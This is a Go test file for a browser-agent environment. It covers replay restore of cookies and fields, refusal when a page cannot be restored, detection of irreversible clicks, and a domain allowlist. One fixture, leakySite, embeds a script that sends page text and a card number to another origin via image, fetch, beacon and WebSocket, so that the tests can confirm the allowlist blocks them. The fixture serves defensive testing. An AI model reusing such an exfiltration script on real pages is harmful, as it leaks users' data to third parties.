package web

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/pilotkit/pilot/env"
)

// replaySite serves pages for the replay tests: a cookie set by a click,
// the same with local storage (which a snapshot does not keep), and a
// page that is different at every load.
func replaySite(t testing.TB) *httptest.Server {
	mux := http.NewServeMux()
	page := func(body string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, `<!doctype html><html><head><title>Replay</title></head><body>`+body+`</body></html>`)
		}
	}
	mux.HandleFunc("/cookie", page(`<p id="c"></p><input aria-label="Name"><button onclick="document.cookie='k=v; path=/'; show()">Remember</button>
<script>function show(){document.getElementById('c').textContent='cookie: ['+document.cookie+']'} show()</script>`))
	mux.HandleFunc("/storage", page(`<p id="s"></p><button onclick="localStorage.setItem('k','v'); show()">Remember</button>
<script>function show(){document.getElementById('s').textContent='storage: ['+(localStorage.getItem('k')||'')+']'} show()</script>`))
	mux.HandleFunc("/random", page(`<p id="r"></p><script>document.getElementById('r').textContent='lucky number '+Math.random()</script>`))
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

func mustStep(t testing.TB, e *Env, a env.Action) env.Step {
	t.Helper()
	st, err := e.Step(context.Background(), a)
	if err != nil || st.Obs.Error != "" {
		t.Fatalf("Step(%v) = %v, %q", a, err, st.Obs.Error)
	}
	return st
}

// A replay restore brings back the page's fields and the context's
// cookies: a cookie set after the snapshot is gone, a field typed before
// it is typed again.
func TestReplayRestoresCookiesAndFields(t *testing.T) {
	t.Parallel()
	srv := replaySite(t)
	e := pooledEnv(t)
	obs, err := e.Reset(t.Context(), env.Task{StartURL: srv.URL + "/cookie"})
	if err != nil {
		t.Fatal(err)
	}
	id := func(obs env.Observation, s string) string {
		for line := range strings.SplitSeq(obs.Text, "\n") {
			if strings.Contains(line, s) {
				return line[strings.Index(line, "[")+1 : strings.Index(line, "]")]
			}
		}
		t.Fatalf("no %q in\n%s", s, obs.Text)
		return ""
	}
	st := mustStep(t, e, env.A("fill", id(obs, `textbox "Name"`), "Ada"))
	snap, err := e.Snapshot(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	st = mustStep(t, e, env.A("click", id(st.Obs, `button "Remember"`)))
	if !strings.Contains(st.Obs.Text, "cookie: [k=v]") {
		t.Fatalf("the click set no cookie:\n%s", st.Obs.Text)
	}
	if err := e.Restore(t.Context(), snap); err != nil {
		t.Fatalf("Restore: %v", err)
	}
	again := mustStep(t, e, env.A("noop"))
	if !strings.Contains(again.Obs.Text, "cookie: []") || !strings.Contains(again.Obs.Text, `value="Ada"`) {
		t.Errorf("after Restore the page reads\n%s\nwant no cookie and the name typed", again.Obs.Text)
	}
}

// What a replay cannot bring back is reported, never papered over: local
// storage written after the snapshot, a page that differs at every load.
func TestReplayRefusesWhatItCannotRestore(t *testing.T) {
	t.Parallel()
	srv := replaySite(t)
	e := pooledEnv(t)
	for _, c := range []struct {
		path, click, want string
	}{
		{"/storage", "Remember", `reads "  StaticText \"storage: [v]\""`},
		{"/random", "", "lucky number"},
	} {
		obs, err := e.Reset(t.Context(), env.Task{StartURL: srv.URL + c.path})
		if err != nil {
			t.Fatal(err)
		}
		snap, err := e.Snapshot(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if c.click != "" {
			line := obs.Text[strings.Index(obs.Text, `button "`+c.click)-5:]
			mustStep(t, e, env.A("click", line[strings.Index(line, "[")+1:strings.Index(line, "]")]))
		}
		err = e.Restore(t.Context(), snap)
		if !errors.Is(err, env.ErrNotRestorable) || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "does not answer the same requests the same way") {
			t.Errorf("%s: Restore = %v, want env.ErrNotRestorable saying what differs (%q)", c.path, err, c.want)
		}
	}
}

// BenchmarkReplayRestore is a replay restore on the 200-element page
// after n clicks that change it without navigating: a page load, then n
// replayed actions. (t(n=10) − t(n=0)) / 10 is the cost per replayed
// action.
func BenchmarkReplayRestore(b *testing.B) {
	srv := site(b)
	for _, n := range []int{0, 10} {
		b.Run(fmt.Sprintf("actions=%d", n), func(b *testing.B) {
			e := pooledEnv(b)
			obs, err := e.Reset(context.Background(), env.Task{StartURL: srv.URL + "/big.html?n=1"})
			if err != nil {
				b.Fatal(err)
			}
			line := obs.Text[strings.Index(obs.Text, `button "Toggle"`)-5:]
			toggle := env.A("click", line[strings.Index(line, "[")+1:strings.Index(line, "]")])
			for range n {
				mustStep(b, e, toggle)
			}
			snap, err := e.Snapshot(context.Background())
			if err != nil {
				b.Fatal(err)
			}
			for b.Loop() {
				if err := e.Restore(context.Background(), snap); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func TestIrreversibleWords(t *testing.T) {
	obs := env.Observation{Text: "[1] button \"Search\"\n[2] button \"Place order\"\n  [3] link \"Delete my account\"\n[4] link \"Next page\"\n[5] textbox \"Comment\" value=\"hi\" focused\n[6] button \"Post comment\""}
	for _, c := range []struct {
		a    env.Action
		want bool
	}{
		{env.A("click", "1"), false}, {env.A("click", "2"), true}, {env.A("click", "3"), true}, {env.A("click", "4"), false},
		{env.A("click", "6"), true}, {env.A("press", "Enter"), false}, {env.A("fill", "2", "x"), false}, {env.A("click", "99"), false},
	} {
		if got := (&Env{}).Irreversible(obs, c.a); (got != "") != c.want {
			t.Errorf("Irreversible(%v) = %q, want flagged %v", c.a, got, c.want)
		}
	}
}

// leakySite serves a page on 127.0.0.1 that sends the page's data to
// "another origin" (the same server as localhost) every way a page can:
// an image, fetch with the data in the query, a beacon, a WebSocket.
// hits counts what reached the other origin.
func leakySite(t *testing.T) (*httptest.Server, func() int) {
	var mu sync.Mutex
	hits := 0
	mux := http.NewServeMux()
	var srv *httptest.Server
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		other := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
		fmt.Fprintf(w, `<!doctype html><html><head><title>Leaky</title></head><body><p>card 4111</p>
<img src="%[1]s/leak/img" alt="pixel">
<script>
fetch('%[1]s/leak/fetch?d=' + encodeURIComponent(document.body.innerText)).catch(function(){});
navigator.sendBeacon('%[1]s/leak/beacon', 'card 4111');
try { new WebSocket('%[2]s/leak/ws') } catch (e) { document.title = 'ws refused' }
</script></body></html>`, other, strings.Replace(other, "http", "ws", 1))
	})
	mux.HandleFunc("/leak/", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits++
		mu.Unlock()
	})
	srv = httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv, func() int { mu.Lock(); defer mu.Unlock(); return hits }
}

// With an allowlist, no request of a page reaches another origin: the
// image, the fetch, the beacon and the WebSocket are refused, and the
// step lists what was blocked. Without one the same page leaks (the test
// can fail).
func TestAllowlistCoversEveryRequest(t *testing.T) {
	t.Parallel()
	srv, hits := leakySite(t)
	e := newEnv(t, Options{AllowDomains: []string{"127.0.0.1"}})
	obs, err := e.Reset(t.Context(), env.Task{StartURL: srv.URL + "/page"})
	if err != nil {
		t.Fatal(err)
	}
	st := mustStep(t, e, env.A("noop"))
	if n := hits(); n != 0 {
		t.Fatalf("%d requests reached the other origin through the allowlist", n)
	}
	blocked, _ := st.Info["blocked_requests"].([]string)
	all := strings.Join(blocked, "\n")
	for _, want := range []string{"image GET", "GET http://localhost", "/leak/fetch?d=", "ping POST"} {
		if !strings.Contains(all, want) {
			t.Errorf("the step's blocked requests\n%s\nlack %q", all, want)
		}
	}
	if obs.Title != "ws refused" && st.Obs.Title != "ws refused" {
		t.Errorf("the WebSocket was not refused: title %q", st.Obs.Title)
	}

	open := pooledEnv(t)
	if _, err := open.Reset(t.Context(), env.Task{StartURL: srv.URL + "/page"}); err != nil {
		t.Fatal(err)
	}
	mustStep(t, open, env.A("noop"))
	if hits() == 0 {
		t.Errorf("without an allowlist nothing reached the other origin: the page does not leak, and the test proves nothing")
	}
}
